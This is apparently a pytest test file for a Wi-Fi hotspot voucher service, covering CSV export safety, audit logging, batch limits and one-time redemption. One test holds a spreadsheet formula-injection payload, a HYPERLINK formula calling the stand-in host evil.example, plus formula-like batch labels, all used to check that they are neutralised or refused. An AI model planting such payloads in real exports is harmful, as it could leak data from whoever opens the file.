"""Vouchers: generated from `secrets` in bulk, redeemed exactly once; the CLI makes its batches
through the admin API's use case, with its limit and its audit."""

from __future__ import annotations

import csv
import secrets
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from decimal import Decimal
from pathlib import Path

import requests
from pyrad import packet
from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker

from hotspot.billing.vouchers import generate
from hotspot.catalog.packages import create_package
from hotspot.core.codes import ALPHABET
from hotspot.models import AuditEntry, Package, Voucher
from tests.support.factories import default_operator, make_package
from tests.support.harness import ApiUnderTest
from tests.support.radius import pyrad_login
from tests.support.stack import StackUnderTest


def new_codes(committed: sessionmaker[Session], count: int) -> list[str]:
    with committed.begin() as session:
        package: Package = make_package(session)
        return list(generate(session, package, count, "tests"))


def redeem(api: ApiUnderTest, code: str) -> requests.Response:
    return requests.post(f"{api.url}/api/vouchers/redeem", json={"code": code}, timeout=10)


def generate_vouchers(
    stack: StackUnderTest, package: str, out: Path, *options: str, count: int = 3
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "hotspot", "vouchers", "generate", "--package", package,
         "--count", str(count), "--out", str(out), *options],
        env=stack.env(), capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip


def test_the_cli_writes_a_csv_of_unique_unambiguous_codes(
    stack: StackUnderTest, tmp_path: Path
) -> None:
    out = tmp_path / "vouchers.csv"
    result = generate_vouchers(stack, "1 Day", out, count=10000)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(out.open()))
    codes = {row["code"] for row in rows}
    assert len(rows) == len(codes) == 10000
    assert all(len(code) == 10 and set(code) <= set(ALPHABET) for code in codes)
    assert {row["package"] for row in rows} == {"1 Day"}


def test_a_cli_batch_is_audited_as_the_cli_without_its_codes(
    stack: StackUnderTest, committed: sessionmaker[Session], tmp_path: Path
) -> None:
    out = tmp_path / "vouchers.csv"
    batch = f"cli-{secrets.token_hex(3)}"
    assert generate_vouchers(stack, "1 Day", out, "--batch", batch).returncode == 0
    codes = [row["code"] for row in csv.DictReader(out.open())]
    with committed() as session:
        [entry] = session.scalars(
            select(AuditEntry).where(AuditEntry.target == f"voucher-batch:{batch}")
        ).all()
    assert (entry.actor, entry.action) == ("cli", "vouchers.create")
    assert (entry.detail["package"], entry.detail["count"]) == ("1 Day", 3)
    assert not any(code in str(entry.detail) for code in codes)


def test_the_cli_refuses_more_codes_than_the_api_allows_in_one_batch(
    stack: StackUnderTest, committed: sessionmaker[Session], tmp_path: Path
) -> None:
    out = tmp_path / "vouchers.csv"
    batch = f"too-big-{secrets.token_hex(3)}"
    result = generate_vouchers(stack, "1 Day", out, "--batch", batch, count=10001)
    assert result.returncode == 2
    assert result.stderr.strip() == "error: count must be between 1 and 10000"
    assert not out.exists()
    with committed() as session:
        made = session.scalar(
            select(func.count()).select_from(Voucher).where(Voucher.batch == batch)
        )
    assert made == 0


def test_the_voucher_csv_is_private_and_never_written_over_or_through_a_link(
    stack: StackUnderTest, tmp_path: Path
) -> None:
    out = tmp_path / "vouchers.csv"
    assert generate_vouchers(stack, "1 Day", out).returncode == 0
    assert out.stat().st_mode & 0o777 == 0o600
    first = out.read_text()

    again = generate_vouchers(stack, "1 Day", out)
    assert again.returncode == 2
    assert "cannot create" in again.stderr
    assert out.read_text() == first  # the first batch's codes are still there

    target = tmp_path / "someone-elses.txt"
    target.write_text("keep me\n")
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    assert generate_vouchers(stack, "1 Day", link).returncode == 2
    assert target.read_text() == "keep me\n"


def test_the_voucher_csv_neutralises_formulas_in_a_package_name_and_a_batch_label(
    stack: StackUnderTest, committed: sessionmaker[Session], tmp_path: Path
) -> None:
    hostile = f'=HYPERLINK("http://evil.example/?{secrets.token_hex(4)}","Free WiFi")'
    with committed.begin() as session:
        create_package(
            session, default_operator(session), name=hostile, price=Decimal(20),
            duration_seconds=3600,
            data_cap_bytes=None, rate_limit="2M/5M", devices=1, interim_interval=60,
        )  # fmt: skip
    out = tmp_path / "vouchers.csv"

    result = generate_vouchers(stack, hostile, out, "--batch", "-2:SUM")

    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(out.open()))
    assert len(rows) == 3
    assert {(r["package"], r["price"], r["batch"]) for r in rows} == {
        ("'" + hostile, "20.00", "'-2:SUM")
    }


def test_a_voucher_gives_credentials_freeradius_accepts(
    api: ApiUnderTest, stack: StackUnderTest, committed: sessionmaker[Session]
) -> None:
    [code] = new_codes(committed, 1)
    response = redeem(api, code.upper())
    assert response.status_code == 200
    user = response.json()
    assert pyrad_login(stack, user["username"], user["password"]).code == packet.AccessAccept


def test_a_voucher_redeems_once_even_under_concurrent_attempts(
    api: ApiUnderTest, committed: sessionmaker[Session]
) -> None:
    [code] = new_codes(committed, 1)
    with ThreadPoolExecutor(max_workers=20) as pool:
        statuses = list(pool.map(lambda _: redeem(api, code).status_code, range(40)))
    assert statuses.count(200) == 1
    assert statuses.count(404) == 39


def test_wrong_and_used_codes_get_the_same_answer(
    api: ApiUnderTest, committed: sessionmaker[Session]
) -> None:
    [code] = new_codes(committed, 1)
    redeem(api, code)
    used = redeem(api, code)
    unknown = redeem(api, "zzzzzzzzzz")
    assert used.status_code == unknown.status_code == 404
    assert used.json() == unknown.json()


def test_a_missing_code_is_422(api: ApiUnderTest) -> None:
    assert requests.post(f"{api.url}/api/vouchers/redeem", json={}, timeout=5).status_code == 422


def test_a_batch_label_a_url_cannot_carry_is_refused_from_the_shell_as_from_the_api(
    stack: StackUnderTest, tmp_path: Path
) -> None:
    # The label names the batch in /api/admin/vouchers/batches/<batch>/revoke.
    result = generate_vouchers(stack, "1 Day", tmp_path / "v.csv", "--batch", "@SUM(1)")
    assert result.returncode == 2
    assert "batch may contain only letters, digits and . _ : -" in result.stderr
    assert not (tmp_path / "v.csv").exists()
